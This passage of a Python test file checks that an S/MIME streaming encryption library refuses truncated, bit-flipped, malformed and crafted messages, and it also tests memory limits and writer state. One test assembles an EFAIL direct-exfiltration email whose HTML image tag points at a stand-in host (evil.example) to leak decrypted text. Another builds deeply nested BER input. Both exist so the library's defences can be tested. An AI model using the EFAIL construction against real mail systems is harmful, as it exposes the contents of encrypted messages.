    assert offset is not None
    refused(gcm.cut(offset), people.identity("rsa"), DecryptionError, tmp_path)


def test_truncated_in_the_base64_text(people: People, sealed: Sealed, tmp_path: Path) -> None:
    """Cut mid-line, mid-quantum: the base64 text itself ends early."""
    data = sealed.data[: len(sealed.data) * 2 // 3 + 3]
    refused(data, people.identity("rsa"), DecryptionError, tmp_path)


def test_truncated_in_the_header_section(people: People, sealed: Sealed, tmp_path: Path) -> None:
    data = sealed.data[: len(split_message(sealed.data)[0]) // 2]
    refused(data, people.identity("rsa"), MalformedMessageError, tmp_path)


@pytest.mark.parametrize("where", ["start", "middle", "end"])
def test_flipped_ciphertext_byte(people: People, gcm: Sealed, tmp_path: Path, where: str) -> None:
    index = {"start": 0, "middle": gcm.layout.ciphertext_size // 2, "end": -1}[where]
    offset = gcm.layout.ciphertext_offset(index)
    changed = pki.ciphertext_of(pki.flip(gcm.der, offset))
    assert changed[index] != pki.ciphertext_of(gcm.der)[index], "not a ciphertext byte"
    data = gcm.flipped(offset)
    refused(data, people.identity("rsa"), DecryptionError, tmp_path)


@pytest.mark.parametrize("where", ["first", "last"])
def test_flipped_tag(people: People, gcm: Sealed, tmp_path: Path, where: str) -> None:
    offset = gcm.layout.mac_content + (0 if where == "first" else 15)
    refused(gcm.flipped(offset), people.identity("rsa"), DecryptionError, tmp_path)


def test_cbc_bad_padding(people: People, cbc: Sealed, tmp_path: Path) -> None:
    """A byte flipped at the end of the last block but one changes the last plaintext byte,
    the padding length, to a value no padding can have (every time, not with probability
    255/256 as a change to the last block itself would)."""
    data = cbc.flipped(cbc.layout.ciphertext_offset(-17))
    refused(data, people.identity("rsa"), DecryptionError, tmp_path)


def test_cbc_refused_when_authenticated_encryption_is_required(
    people: People, cbc: Sealed, tmp_path: Path
) -> None:
    policy = DEFAULT.clone(require_authenticated_encryption=True)
    error = UnauthenticatedContentError
    refused(cbc.data, people.identity("rsa"), error, tmp_path, policy=policy)


def test_wrong_identity(people: People, sealed: Sealed, tmp_path: Path) -> None:
    refused(sealed.data, people.identity("p384"), NotARecipientError, tmp_path)


@pytest.mark.parametrize(
    "body",
    [b"@@@@ this is not base64 !!!!\r\n", pki.base64_lines(b"valid base64, but no CMS at all")],
    ids=["not-base64", "not-cms"],
)
def test_garbage_body(people: People, sealed: Sealed, tmp_path: Path, body: bytes) -> None:
    data = split_message(sealed.data)[0] + b"\r\n\r\n" + body
    refused(data, people.identity("rsa"), DecryptionError, tmp_path)


def test_garbage_in_the_middle_of_the_base64(
    people: People, sealed: Sealed, tmp_path: Path
) -> None:
    middle = len(sealed.data) // 2
    data = sealed.data[:middle] + b"*" + sealed.data[middle + 1 :]
    refused(data, people.identity("rsa"), DecryptionError, tmp_path)


def test_size_limit(people: People, sealed: Sealed, tmp_path: Path) -> None:
    policy = DEFAULT.clone(max_stream_size=100_000)
    refused(sealed.data, people.identity("rsa"), SizeLimitExceeded, tmp_path, policy=policy)


@pytest.mark.parametrize(
    "message",
    [
        wire.to_bytes(text_message()),
        pki.enveloped_message(b"\x30\x03\x02\x01\x01", smime_type=b"signed-data"),
    ],
    ids=["plain-text", "signed-data"],
)
def test_not_an_encrypted_message(people: People, tmp_path: Path, message: bytes) -> None:
    refused(message, people.identity("rsa"), MalformedMessageError, tmp_path)


def test_encrypted_part_inside_a_multipart(people: People, sealed: Sealed, tmp_path: Path) -> None:
    """EFAIL direct exfiltration: the ciphertext as one part among others."""
    data = (
        b"From: mallory@example.com\r\nTo: bob@example.com\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
        b'--b\r\nContent-Type: application/pkcs7-mime; name="smime.p7m"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + split_message(sealed.data)[1]
        + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    refused(data, people.identity("rsa"), EmbeddedCiphertextError, tmp_path)


def test_every_flipped_byte_outside_the_ciphertext_gives_a_typed_error(people: People) -> None:
    """Each byte of the CMS structure around the ciphertext (the head with the recipient
    info, and the tail with the tag), flipped in two ways: the stream either still
    decrypts to exactly the original (a byte nothing depends on, such as the version) or
    fails with a securemail error and releases nothing; never a parser's own exception."""
    data = stream_encrypt(text_message(), [people.recipient("p256", GCM)])
    identity = people.identity("p256")
    original, _ = stream_decrypt(data, identity)
    der = pki.smime_der(data)
    found = layout(der)
    head = range(found.ciphertext_offset(0))
    tail = range(found.ciphertext_offset(-1) + 1, len(der))
    escaped = []
    for offset in [*head, *tail]:
        for mask in (0xFF, 0x01):
            sink = RecordingSink()
            source = io.BytesIO(pki.with_smime_der(data, pki.flip(der, offset, mask)))
            try:
                streaming.decrypt_stream(source, sink, identity)
            except SecureMailError:
                assert sink.writes == [], f"released after an error (offset {offset})"
            except Exception as exc:
                escaped.append(f"offset {offset} ^ {mask:#04x}: {type(exc).__name__}: {exc}")
            else:
                assert sink.data == original, f"different plaintext (offset {offset})"
    assert escaped == [], "\n".join(escaped)


@pytest.mark.parametrize("depth", [100, 3000])
def test_deeply_nested_ber_gives_a_typed_error(people: People, tmp_path: Path, depth: int) -> None:
    """RecipientInfos made of nested indefinite-length elements (a crafted message)."""
    der = (
        b"\x30\x80"
        + cms.ContentType("enveloped_data").dump()
        + b"\xa0\x80\x30\x80\x02\x01\x00"  # [0], EnvelopedData, version
        + b"\x31\x80"
        + b"\x30\x80" * depth
        + b"\x00\x00" * (depth + 1)
    )
    refused(pki.enveloped_message(der), people.identity("rsa"), DecryptionError, tmp_path)


# === 6. bounded memory ============================================================================

STREAMED_SIZE = 256 * MiB
PEAK_LIMIT = 24 * MiB


def big_message_stream(people: People, sink: Sink) -> None:
    attachment = StreamedAttachment(PatternSource(STREAMED_SIZE), filename="disk.img")
    streaming.encrypt(
        sink, text_message(), [people.recipient("rsa", GCM)], attachments=[attachment]
    )


def test_encrypt_256_mib_in_bounded_memory(people: People) -> None:
    sink = DiscardingSink()
    with traced_peak() as peak:
        big_message_stream(people, sink)
        highest = peak()
    assert sink.size > STREAMED_SIZE * 4 // 3 * 4 // 3  # base64 of base64 of it all
    assert highest < PEAK_LIMIT, f"peak {highest / MiB:.1f} MiB"


def test_decrypt_256_mib_in_bounded_memory(people: People, tmp_path: Path) -> None:
    """Encrypted in a thread into a pipe, decrypted from it: no message file on disk, only
    the (encrypted) spool. The peak covers both sides at once."""
    sink = DiscardingSink()
    with traced_peak() as peak:
        result = decrypted_from_pipe(
            lambda pipe: big_message_stream(people, pipe),
            lambda source: streaming.decrypt_stream(
                source, sink, people.identity("rsa"), spool_dir=tmp_path
            ),
        )
        highest = peak()
    assert result.authenticated
    assert result.size > STREAMED_SIZE * 4 // 3
    assert sink.size > STREAMED_SIZE * 4 // 3
    assert list(tmp_path.iterdir()) == []
    assert highest < PEAK_LIMIT, f"peak {highest / MiB:.1f} MiB"


# === 7. writers are state machines ===========================================================


def _envelope(people: People, sink: Sink) -> Writer:
    recipient = EnvelopeRecipient(people.issued("rsa").cert)
    return EnvelopeWriter.for_recipients(sink, [recipient], ContentCipher.AES_256_GCM)


def _signature(people: People, sink: Sink) -> Writer:
    return DetachedSignatureWriter(sink, people.identity("rsa"), policy=DEFAULT)


def _multipart(_: People, sink: Sink) -> Writer:
    return MultipartWriter(sink, "----=_test_boundary")


WRITERS: dict[str, Callable[[People, Sink], Writer]] = {
    "base64": lambda _, sink: Base64Writer(sink),
    "crlf": lambda _, sink: CrlfWriter(sink),
    "envelope": _envelope,
    "signature": _signature,
    "multipart": _multipart,
}


def feed(writer: Writer) -> None:
    """Some content, in the form each writer takes."""
    if isinstance(writer, MultipartWriter):
        writer.add_entity(b"Content-Type: text/plain\r\n\r\nfirst part\r\n")
        writer.add_attachment(StreamedAttachment(io.BytesIO(b"x" * 1000), filename="x.bin"))
    else:
        writer.write(b"Content-Type: text/plain\r\n\r\n" + b"y" * 100_001 + b"\r")


@pytest.mark.parametrize("kind", WRITERS)
def test_finalized_writer_refuses_everything(people: People, kind: str) -> None:
    sink = RecordingSink()
    writer = WRITERS[kind](people, sink)
    feed(writer)
    assert not writer.finalized
    writer.finalize()
    assert writer.finalized
    written = sink.data
    with pytest.raises(AlreadyFinalized):
        writer.finalize()
    with pytest.raises(AlreadyFinalized):
        writer.write(b"more")
    with pytest.raises(AlreadyFinalized):
        writer.write(b"")
    if isinstance(writer, MultipartWriter):
        with pytest.raises(AlreadyFinalized):
            writer.add_entity(b"Content-Type: text/plain\r\n\r\nlate\r\n")
        with pytest.raises(AlreadyFinalized):
            writer.add_attachment(StreamedAttachment(io.BytesIO(b"late"), filename="late.bin"))
    assert sink.data == written, "a refused call wrote something"


# What finalize writes last, and an abandoned stream must not end with.
TAILS: dict[str, Callable[[bytes], bool]] = {
    "base64": lambda data: data.endswith(b"\r\n") and len(data.splitlines()[-1]) < 76,
    "crlf": lambda data: data.endswith(b"\r\n"),
    "envelope": lambda data: data[-28:-22] == b"\x00" * 4 + b"\x04\x10",  # EOCs, mac
    "signature": lambda data: b"smime.p7s" in data,
    "multipart": lambda data: data.endswith(b"\r\n------=_test_boundary--\r\n"),
}


@pytest.mark.parametrize("kind", WRITERS)
def test_leaving_with_on_an_error_writes_no_tail(people: People, kind: str) -> None:
    complete, abandoned = RecordingSink(), RecordingSink()
    with WRITERS[kind](people, complete) as writer:
        feed(writer)
    assert writer.finalized
    assert TAILS[kind](complete.data), "the control: a completed stream ends with its tail"

    with pytest.raises(RuntimeError), WRITERS[kind](people, abandoned) as writer:
        feed(writer)
        count = len(abandoned.writes)
        raise RuntimeError("the source failed")
    assert not writer.finalized
    assert len(abandoned.writes) == count, "something was written after the error"
    assert not TAILS[kind](abandoned.data)


def test_finalize_unwinds_the_stack(people: People) -> None:
    sink = RecordingSink()
    base64 = Base64Writer(sink)
    envelope = _envelope(people, base64)
    signature = DetachedSignatureWriter(envelope, people.identity("rsa"), policy=DEFAULT)
    signature.write(b"Content-Type: text/plain\r\n\r\nhello\r\n")
    signature.finalize()
    assert signature.finalized and envelope.finalized and base64.finalized
    with pytest.raises(AlreadyFinalized):
        envelope.write(b"after the end")


def test_failing_attachment_leaves_a_stream_that_does_not_decrypt(
    people: People, tmp_path: Path
) -> None:
    """The source of an attachment fails halfway: the error reaches the caller, and what was
    already written has no tag, so no reader takes it for a whole message."""
    sink = RecordingSink()
    attachment = StreamedAttachment(FailingSource(200_000), filename="broken.bin")
    with pytest.raises(OSError, match="went away"):
        streaming.encrypt(
            sink, text_message(), [people.recipient("rsa", GCM)], attachments=[attachment]
        )
    assert sink.data, "the header and part of the content were written"
    refused(sink.data, people.identity("rsa"), DecryptionError, tmp_path)
